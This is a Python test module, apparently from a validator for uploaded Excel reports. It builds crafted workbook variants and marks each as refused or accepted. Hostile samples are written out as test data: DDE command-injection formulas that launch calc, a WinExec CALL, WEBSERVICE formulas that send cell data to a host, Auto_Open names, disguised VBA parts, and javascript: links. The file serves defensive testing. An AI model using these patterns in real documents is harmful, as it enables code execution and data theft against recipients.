"""What could run, fetch or pretend something; it is named, never followed or run."""

from tests.hostile.original import (
    CONTENT_TYPES,
    MAIN,
    OFFICE,
    OTHER_REPORT,
    REPORT,
    TEXT,
    WORKBOOK,
    before_end,
    changed,
    original,
    with_content_type,
    with_count,
    with_parts,
    with_relation,
    with_text,
)
from tests.hostile.variant import Kinds
from tests.validators.damage import parts_of

kinds = Kinds("activity")

MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
PANES = "http://schemas.microsoft.com/office/2011/relationships"
LINK = "xl/externalLinks/externalLink1.xml"
DRAWING = "xl/drawings/drawing1.xml"
CODE = b"\xd0\xcf\x11\xe0" + bytes(100)


def with_formula(formula: str) -> bytes:
    """The report with a formula in an input cell, whose value is what was reported."""
    return with_count(f"<f>{formula}</f><v>55</v>")


def with_external_link(target: str, inside: str = "") -> bytes:
    """The report with a link to another file."""
    book = inside or f'<externalBook xmlns:r="{OFFICE}" r:id="rId1"/>'
    data = with_parts({LINK: f'<externalLink xmlns="{MAIN}">{book}</externalLink>'})
    data = with_relation(WORKBOOK, 60, "externalLink", "externalLinks/externalLink1.xml", data=data)
    return with_relation(LINK, 1, "externalLinkPath", target, external=True, data=data)


def leading_to(part: str, kind: str, source: str = WORKBOOK, content: str | bytes = CODE) -> bytes:
    """The report with one more part, to which a relation of this kind leads from `source`."""
    return with_parts({part: content}, with_relation(source, 60, kind, f"/{part}"))


def with_name(name: str, formula: str) -> bytes:
    """The report with a defined name."""
    xml = f'<definedName name="{name}">{formula}</definedName>'
    return before_end(WORKBOOK, "definedNames", xml)


def with_own_sheet(cells: str) -> bytes:
    """The report with a sheet of the sender's."""
    data = with_relation(WORKBOOK, 60, "worksheet", "worksheets/sheet9.xml")
    rows = f'<sheetData><row r="1">{cells}</row></sheetData>'
    sheet = f'<worksheet xmlns="{MAIN}">{rows}</worksheet>'
    xml = f'<sheet xmlns:r="{OFFICE}" name="Budget" sheetId="9" r:id="rId60"/>'
    return before_end(WORKBOOK, "sheets", xml, with_parts({OTHER_REPORT: sheet}, data))


def with_default(extension: str, kind: str, data: bytes | None = None) -> bytes:
    """The report with what parts of an extension are."""
    xml = f'<Default Extension="{extension}" ContentType="{kind}"/>'
    return before_end(CONTENT_TYPES, "Types", xml, data)


VBA = "application/vnd.ms-office.vbaProject"
MAIN_PART = "spreadsheetml.sheet.main+xml"
FOR_MACROS = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"


def for_macros(data: bytes | None = None) -> bytes:
    """The report with a workbook part for macros."""
    kind = f"application/vnd.openxmlformats-officedocument.{MAIN_PART}"
    return changed(CONTENT_TYPES, kind, FOR_MACROS, data)


def with_macro_sheet(part: str) -> bytes:
    """The report with a sheet of macros as they were before 1993."""
    sheet = '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'
    data = leading_to(part, f"{MICROSOFT}/xlMacrosheet", content=sheet)
    xml = f'<sheet xmlns:r="{OFFICE}" name="Makro" sheetId="9" state="hidden" r:id="rId60"/>'
    return before_end(WORKBOOK, "sheets", xml, data)


@kinds.accepted("RP-111")
def a_link_under_an_innocent_name() -> bytes:
    parts = parts_of(with_external_link("file:///C:/regnskab.xlsx"))
    parts["xl/theme/link.xml"] = parts.pop(LINK)
    parts["xl/theme/_rels/link.xml.rels"] = parts.pop(
        "xl/externalLinks/_rels/externalLink1.xml.rels"
    )
    relations = parts["xl/_rels/workbook.xml.rels"]
    parts["xl/_rels/workbook.xml.rels"] = relations.replace(
        b"externalLinks/externalLink1.xml", b"theme/link.xml"
    )
    return with_parts(dict(parts))  # The old names are in the original no more than here.


def _with_link(target: str) -> bytes:
    data = with_relation(REPORT, 50, "hyperlink", target, external=True)
    link = f'<hyperlinks xmlns:r="{OFFICE}"><hyperlink ref="{TEXT}" r:id="rId50"/></hyperlinks>'
    return changed(REPORT, "<printOptions", f"{link}<printOptions", data)


@kinds.accepted()
def a_link_within_the_workbook() -> bytes:
    link = f'<hyperlinks><hyperlink ref="{TEXT}" location="Stamdata!A1"/></hyperlinks>'
    return changed(REPORT, "<printOptions", f"{link}<printOptions")


@kinds.refused("RP-112")
def a_rule_of_colour_that_fetches() -> bytes:
    rule = (
        '<conditionalFormatting sqref="U1"><cfRule type="expression" priority="99">'
        '<formula>WEBSERVICE("http://example.org")=1</formula></cfRule></conditionalFormatting>'
    )
    return changed(REPORT, "<conditionalFormatting", f"{rule}<conditionalFormatting")


def _saying(text: str) -> bytes:
    escaped = text.replace("&", "&amp;").replace("<", "&lt;")
    return with_text(f"<is><t>{escaped}</t></is>")


kinds.refused(
    "RP-110",
    macros=lambda: leading_to("xl/vbaProject.bin", f"{MICROSOFT}/vbaProject"),
    macros_under_an_innocent_name=lambda: leading_to(
        "xl/theme/theme2.xml", f"{MICROSOFT}/vbaProject"
    ),
    a_macro_sheet_of_1992=lambda: with_macro_sheet("xl/macrosheets/sheet1.xml"),
    a_macro_sheet_that_lies_among_the_sheets=lambda: with_macro_sheet("xl/worksheets/sheet8.xml"),
    macros_without_a_relation=lambda: with_parts({"xl/vbaProject.bin": CODE}),
    macros_by_the_type_of_an_extension=lambda: with_default(
        "BIN", VBA, with_parts({"xl/x.bin": CODE})
    ),
    macros_by_content_type_alone=lambda: with_content_type(
        "xl/media/image1.png", VBA, with_parts({"xl/media/image1.png": CODE})
    ),
    macros_by_the_type_of_an_escaped_name=lambda: with_content_type(
        "XL/media/x%31.png", VBA, with_parts({"xl/media/x1.png": CODE})
    ),
    a_workbook_for_macros=lambda: for_macros(with_parts({"xl/vbaProject.bin": CODE})),
)

kinds.accepted(
    "RP-111",
    a_link_to_another_workbook=lambda: with_external_link("file:///C:/regnskab.xlsx"),
    a_link_to_a_workbook_on_the_network=lambda: with_external_link(
        "https://example.org/regnskab.xlsx"
    ),
    an_add_in_on_the_network=lambda: with_external_link("http://example.org/resultatplan.xlam"),
)

kinds.accepted("RP-114", a_workbook_for_macros_that_has_none=for_macros)

kinds.accepted(
    an_extension_of_macros_that_no_part_has=lambda: with_default(
        "bin", "application/vnd.ms-excel.sheet.binary.macroEnabled.main"
    ),
    an_extension_of_code_that_no_part_has=lambda: with_default("bin", VBA),
    the_add_in=lambda: with_external_link(
        "file:///C:/Users/aj/AppData/Roaming/AddIns/resultatplan.xlam"
    ),
    a_name_of_its_own=lambda: with_name("RP_budget_2020", "Stamdata!$A$1"),
    a_text_that_looks_like_a_formula=lambda: _saying("=cmd|'/c calc'!A0"),
    a_text_that_begins_with_plus=lambda: _saying("+WEBSERVICE(1)"),
    a_text_that_begins_with_minus=lambda: _saying("-2+3"),
    a_text_that_begins_with_at=lambda: _saying("@SUM(1)"),
    a_text_of_markup=lambda: _saying("[bold red]x[/] <script>alert(1)</script> \u202egnp.x"),
)

kinds.refused(
    "RP-112",
    a_dde_link=lambda: with_external_link("x", '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'),
    a_link_to_an_object=lambda: with_external_link(
        "x", f'<oleLink xmlns:r="{OFFICE}" r:id="rId1" progId="Package"/>'
    ),
    a_dde_formula=lambda: with_formula("cmd|'/c calc'!A0"),
    an_embedded_object=lambda: leading_to("xl/embeddings/oleObject1.bin", "oleObject", REPORT),
    an_embedded_object_under_an_innocent_name=lambda: leading_to(
        "xl/media/image1.png", "oleObject", REPORT
    ),
    an_embedded_file=lambda: leading_to("xl/media/image1.png", "package", REPORT, original()),
    a_control=lambda: leading_to("xl/activeX/activeX1.xml", "control", REPORT, "<ocx/>"),
    an_office_add_in_on_a_sheet=lambda: leading_to(
        "xl/webextensions/webextension1.xml", f"{PANES}/webextension", DRAWING, "<x/>"
    ),
    buttons_of_its_own=lambda: leading_to("xl/ui.xml", f"{MICROSOFT}/ui/extensibility", ""),
    a_connection=lambda: leading_to("xl/connections.xml", "connections"),
    a_connection_under_an_innocent_name=lambda: leading_to("xl/theme/theme3.xml", "connections"),
    a_query=lambda: leading_to("xl/queryTables/queryTable1.xml", "queryTable", REPORT),
    a_picture_from_the_network=lambda: with_relation(
        DRAWING, 60, "image", "http://example.org/x.png", external=True
    ),
    a_template_from_the_network=lambda: with_relation(
        WORKBOOK, 60, "attachedTemplate", "http://example.org/x.xltm", external=True
    ),
    the_function_webservice=lambda: with_formula('_xlfn.WEBSERVICE("http://example.org/?"&amp;A1)'),
    a_call_in_a_link=lambda: with_formula('HYPERLINK(WEBSERVICE("http://example.org"),55)'),
    the_function_rtd=lambda: with_formula('IF(1,rtd("x.y",,"z"))'),
    the_function_image=lambda: with_formula('_xlfn.IMAGE("http://example.org/x.png")'),
    the_function_call=lambda: with_formula('CALL("kernel32","WinExec","JCJ","calc",0)'),
    the_function_of_python=lambda: with_formula("_xlfn._xlws.PY(0,0)"),
    the_function_of_a_cube=lambda: with_formula('CUBESET("x","y")'),
    a_name_that_fetches=lambda: with_name("tal", '_xlfn.WEBSERVICE("http://example.org")'),
    a_name_that_runs=lambda: with_name("tal", "cmd|'/c calc'!A0"),
    a_name_that_runs_at_once=lambda: with_name("_xlnm.Auto_Open", "Makro!$A$1"),
    a_name_in_place_of_a_function=lambda: with_name("RP_GOAL", "_xlfn.LAMBDA(a,b,c,100)"),
    a_name_in_place_of_a_function_in_small_letters=lambda: with_name("rp_score", "100"),
    a_call_beside_the_columns_of_a_table=lambda: with_formula(
        "SUM(Tabel9[a'[b])+WEBSERVICE(A1)+SUM(Tabel9[c'[d])"
    ),
    a_call_within_brackets_that_no_table_has=lambda: with_formula(
        "Tabel9['a']+WEBSERVICE(A1)+Tabel9[b]]"
    ),
    a_call_between_brackets=lambda: with_formula("SUM(Tabel9[[a]])+RTD(A1)+SUM(Tabel9[b])"),
    a_rule_of_input_that_fetches=lambda: changed(
        REPORT,
        "</dataValidations>",
        '<dataValidation type="custom" sqref="U1"><formula1>WEBSERVICE("http://x")=1</formula1>'
        "</dataValidation></dataValidations>",
    ),
)

kinds.accepted(
    "RP-115",
    the_pane_of_an_office_add_in=lambda: with_relation(
        "xl/webextensions/taskpanes.xml",
        1,
        "webextension",
        "webextension1.xml",
        data=with_parts(
            {"xl/webextensions/webextension1.xml": "<x/>"},
            leading_to("xl/webextensions/taskpanes.xml", f"{PANES}/webextensiontaskpanes", ""),
        ),
    ),
)

kinds.accepted(
    "RP-113",
    the_function_hyperlink=lambda: with_formula('HYPERLINK ("http://example.org",55)'),
    a_link_to_a_page=lambda: _with_link("https://example.org/?a=1&amp;b=2"),
    a_link_to_a_file=lambda: _with_link("file:///C:/Windows/System32/calc.exe"),
    a_link_to_a_share=lambda: _with_link("\\\\example.org\\del\\x.xlsx"),
    a_link_that_is_a_script=lambda: _with_link("javascript:alert(1)"),
    a_link_on_a_picture=lambda: with_relation(
        DRAWING, 60, "hyperlink", "https://example.org/", external=True
    ),
)

kinds.accepted(
    "RP-206",
    own_tables_of_another_sheet=lambda: with_own_sheet(
        '<c r="A1"><f>SUM(Tabel9[Call (antal)])</f><v>1</v></c>'
        '<c r="B1"><f>Tabel9[[#This Row],[Mål | pct]]</f><v>1</v></c>'
        "<c r=\"C1\"><f>Tabel9[[#This Row],[Jens'' '[nye'] | CALL (1)]]</f><v>1</v></c>"
    ),
    odd_cells_of_another_sheet=lambda: with_own_sheet(
        '<c r="A1" t="d"><v>14:30:00</v></c><c r="B1" t="d"><v>i morgen</v></c>'
        '<c r="C1"><f t="shared" si="7"/><v>1</v></c>'
        '<c r="D1"><v>NaN</v></c><c r="E1" t="b"><v>TRUE</v></c><c r="F1" t="e"><v>N/A</v></c>'
        '<c r="G1" t="s"><v></v></c><c r="h1" t="inlineStr"><v>Notat</v></c>'
    ),
)

kinds.accepted(
    "RP-412",
    a_dangerous_word_in_quotes=lambda: with_formula('55+LEN("WEBSERVICE(")*0'),
    a_function_that_only_sounds_dangerous=lambda: with_formula("55+0*RECALL(1)"),
)
